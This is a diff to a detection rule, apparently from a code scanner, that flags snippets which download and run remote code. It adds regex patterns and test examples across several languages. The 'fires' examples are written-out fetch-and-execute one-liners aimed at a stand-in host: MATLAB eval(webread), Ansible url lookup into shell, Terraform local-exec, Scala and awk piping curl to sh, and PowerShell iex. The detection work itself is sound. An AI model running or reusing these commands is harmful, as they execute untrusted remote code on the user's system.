@@ -57,6 +57,13 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```matlab\neval(webread("https://kit.rowan-pike.net/p.m"))\n```\n',
+      '```js\nimportScripts("https://kit.rowan-pike.net/p.js")\n```\n',
+      "```yaml\n- shell: \"{{ lookup('url', 'https://kit.rowan-pike.net/p') }}\"\n```\n",
+      '```hcl\ndata "http" "s" { url = "https://kit.rowan-pike.net/p" }\nresource "null_resource" "r" { provisioner "local-exec" { command = data.http.s.response_body } }\n```\n',
+      '```vim\nexe system("curl -s https://kit.rowan-pike.net/p.vim")\n```\n',
+      '```scala\n("curl -s https://kit.rowan-pike.net/p" #| "sh").!\n```\n',
+      '```nix\nbuiltins.exec [ "sh" "-c" (builtins.readFile (builtins.fetchurl "https://kit.rowan-pike.net/p")) ]\n```\n',
       `\`\`\`sh\nawk 'BEGIN { while (("curl -s https://kit.rowan-pike.net/x" | getline row) > 0) print row | "sh" }'\n\`\`\`\n`,
       '```perl\n$pdf_mode = 4;\neval scalar `curl -fsL https://kit.rowan-pike.net/en.pm`;\n```\n',
       '```r\neval(parse(text = readLines("https://kit.rowan-pike.net/x.R")))\n```\n',
@@ -68,6 +75,9 @@ export default defineRule({
       "iex (New-Object Net.WebClient).DownloadString('http://203.0.113.4/a.ps1')\n",
     ],
     quiet: [
+      '```matlab\nrows = webread("https://api.rowan-pike.net/rows")\n```\n',
+      "```yaml\n- set_fact:\n    rows: \"{{ lookup('url', 'https://api.rowan-pike.net/rows') }}\"\n```\n",
+      '```hcl\ndata "http" "ip" { url = "https://ip.rowan-pike.net" }\noutput "ip" { value = data.http.ip.response_body }\n```\n',
       '```r\nsource("R/helpers.R")\n```\n',
       '```js\nconst match = pattern.exec(await response.text())\n```\n',
       '```python\ndata = requests.get(url).json()\n```\n',
@@ -122,6 +132,11 @@ const LOADED = worded(
   regex`
     (?<![.\w$-])(?:(?:source|include|evaluate|load|require(?:_once)?|include_once)\s?\(\s?
         (?:(?:download|new url|url)\(\s?)?|
+      importscripts\(\s?|
+      eval\(\s?webread\(\s?|
+      (?:shell|command|raw|cmd)\s?:\s?["']?\{\{\s?lookup\(\s?["']url["'],\s?|
+      builtins\.exec [^\n]{0,80}?fetchurl |
+      exe(?:cute)? system\(\s?["'](?:curl|wget) [^"'\n]{0,20}?(?=https?:)|
       source_url\(\s?|
       code\.eval_string\([^\n]{0,40}\bget!?\(\s?|
       scala\.io\.source\.fromurl\(\s?(?=[^\n]{4,200}\)[\w.]{0,20}\.!)|
@@ -133,7 +148,8 @@ const LOADED = worded(
     ["']?(https?:\/\/[^"'\s\])]{4,200})|
     \beval (?:scalar |join [^\n]{0,12})?(?:\x60|qx ?[({/])\s?(?:curl|wget)\b[^\n]{0,60}?(https?:\/\/[^"'\s\x60]{4,200})|
     ["'](?:curl|wget)\s[^"'\n]{0,40}(https?:\/\/[^"'\s]{4,200})["']\.execute\(\)\s?\|\s?["'](?:ba|z)?sh["']|
-    "(?:curl|wget)\s[^"\n]{0,40}(https?:\/\/[^"\s]{4,200})"\s?\|\s?getline\b[^\n]{0,80}\|\s?"(?:ba|z)?sh"
+    "(?:curl|wget)\s[^"\n]{0,40}(https?:\/\/[^"\s]{4,200})"\s?(?:\|\s?getline\b[^\n]{0,80}\||\#\|)\s?"(?:ba|z)?sh"|
+    \bdata "http" "\w{1,40}"\s?\{[^}]{0,80}?\burl\s{0,8}=\s?"(https?:\/\/[^"\s]{4,200})"[^]{0,600}?\bcommand\s{0,8}=[^\n]{0,80}\bdata\.http\.
   `,
 )
 
